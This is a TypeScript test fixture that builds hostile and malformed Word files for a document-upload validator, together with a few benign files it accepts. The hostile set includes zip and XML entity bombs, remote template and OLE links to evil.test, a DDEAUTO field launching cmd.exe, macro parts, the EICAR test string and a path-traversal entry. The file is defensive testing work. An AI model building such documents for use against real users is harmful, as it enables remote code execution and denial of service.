import {
  docxParts,
  makeContainer,
  makeDoc,
  makeDocx,
  makeZip,
  makeZipBombDocx,
} from "#kit/testing/make-files.ts";
import { eicar } from "./eicar.ts";

const lines = ["Nguyễn Văn An", "Kế toán"];
const relation = (type: string, target: string, mode = "External") =>
  makeDocx(lines, [
    {
      name: "word/_rels/document.xml.rels",
      content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
    },
  ]);
const part = (name: string, content: string | Buffer) => makeDocx(lines, [{ name, content }]);
const body = (xml: string) => makeZip(docxParts(xml));

/** A document type in which each entity contains the previous entity ten times. */
const laughs = `<!DOCTYPE a [<!ENTITY b0 "ha">${Array.from({ length: 10 }, (_, i) => `<!ENTITY b${i + 1} "${`&b${i};`.repeat(10)}">`).join("")}]>`;
const field = (code: string) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`;

export const refusedDocx = (): Record<string, Buffer> => ({
  bomb: makeZipBombDocx(),
  "2000-parts": makeDocx(
    lines,
    Array.from({ length: 2000 }, (_, i) => ({ name: `word/media/${i}.txt`, content: "" })),
  ),
  "lying-size": lyingSize(),
  "declared-gigabyte": lyingSize(1_000_000_000),
  "in-itself": makeZip([
    { name: "r.docx", content: makeZip([{ name: "r.docx", content: makeDocx(lines) }]) },
  ]),
  "same-bytes-many-parts": overlapping(),
  "template-elsewhere": relation("attachedTemplate", "https://evil.test/t.dotm"),
  "template-on-a-share": relation("attachedTemplate", "file:///\\\\10.0.0.1\\share\\t.dotm"),
  "program-elsewhere": relation("oleObject", "mhtml:https://evil.test/x.html!x-usc:https://evil.test/x.html"),
  "picture-elsewhere": relation("image", "https://evil.test/seen.png"),
  "template-with-escaped-mode": relation("attachedTemplate", "https://evil.test/t.dotm", "&#69;xternal"),
  "link-in-disguise": relation("attachedTemplate", "https://evil.test/?Type='a/hyperlink'"),
  "entity-bomb": part("word/header1.xml", `<?xml version="1.0"?>${" ".repeat(5000)}${laughs}<a>&b10;</a>`),
  "entity-in-utf16": part("word/styles.xml", Buffer.from(`\uFEFF${laughs}<a/>`, "utf16le")),
  "entity-in-large-body": body(`<w:p/>${" ".repeat(5_000_000)}<!DOCTYPE a>`),
  "command-field": body(`<w:p>${field("DDEAUTO c:\\\\windows\\\\cmd.exe /c calc")}</w:p>`),
  "command-field-in-pieces": body(`<w:p>${["DD", "EAU", "TO cmd"].map(field).join("")}</w:p>`),
  macros: part("word/vbaProject.bin", "x"),
  "macros-by-type": body("<w:p/>").length
    ? makeZip(
        docxParts("<w:p/>").map(({ name, content }) => ({
          name,
          content: String(content).replace("wordprocessingml.document.main", "macroEnabled.main"),
        })),
      )
    : Buffer.alloc(0),
  "virus-inside": part("word/media/image1.png", eicar),
  "virus-in-a-part-of-text": part("word/comments.xml", `<a>${eicar}</a>`),
  "body-twice": part("word/document.xml", "<a/>"),
  "cut-short": makeDocx(lines).subarray(0, 700),
  "path-upwards": part("../../evil.sh", "x"),
  "spreadsheet-renamed": makeZip([{ name: "[Content_Types].xml", content: "<Types/>" }]),
  password: makeContainer([
    { name: "EncryptedPackage", content: Buffer.alloc(4096) },
    { name: "EncryptionInfo", content: Buffer.alloc(4096) },
  ]),
});

export const acceptedDocx = (): Record<string, Buffer> => ({
  "template-of-its-author": relation("attachedTemplate", "file:///C:\\Users\\An\\Templates\\Resume.dotx"),
  link: relation("hyperlink", "mailto:an@example.test"),
  "deep-body": body(`${"<w:p>".repeat(50_000)}${"</w:p>".repeat(50_000)}`),
});

export const refusedDoc = (): Record<string, Buffer> => ({
  "in-circles": circular(),
  "macros-and-no-text": makeContainer([{ name: "WordDocument", content: Buffer.alloc(4096) }], ["Macros"]),
  "cut-short": makeDoc(lines).subarray(0, 1500),
  html: Buffer.from("<html><script>alert(1)</script></html>"),
  rtf: Buffer.from("{\\rtf1{\\object\\objdata 0105000002}}"),
});

/** Returns a Word file whose table of contents declares a wrong size of the body. */
function lyingSize(size = 100): Buffer {
  const liar = makeDocx(["word ".repeat(5000)]);
  liar.writeUInt32LE(size, liar.lastIndexOf("word/document.xml") - 46 + 24);
  return liar;
}

/** Returns a Word file with many entries in its table of contents that point to the same megabytes. */
function overlapping(): Buffer {
  const names = Array.from({ length: 60 }, (_, i) => `word/media/${String(i).padStart(3, "0")}.bin`);
  const whole = makeZip([
    ...docxParts("<w:p/>"),
    { name: names[0] ?? "", content: Buffer.alloc(1_000_000) },
    ...names.slice(1).map((name) => ({ name, content: "" })),
  ]);
  const first = whole.lastIndexOf(`${names[0]}`) - 46;
  for (const name of names.slice(1)) {
    const entry = whole.lastIndexOf(name) - 46;
    // Copies the checksum, the sizes and the offset of the first entry.
    whole.copy(whole, entry + 16, first + 16, first + 28);
    whole.copy(whole, entry + 42, first + 42, first + 46);
  }
  return whole;
}

function circular(): Buffer {
  const doc = makeDoc(lines);
  for (let at = 512; at < 1024; at += 4) doc.writeUInt32LE(at / 4 - 128, at);
  return doc;
}
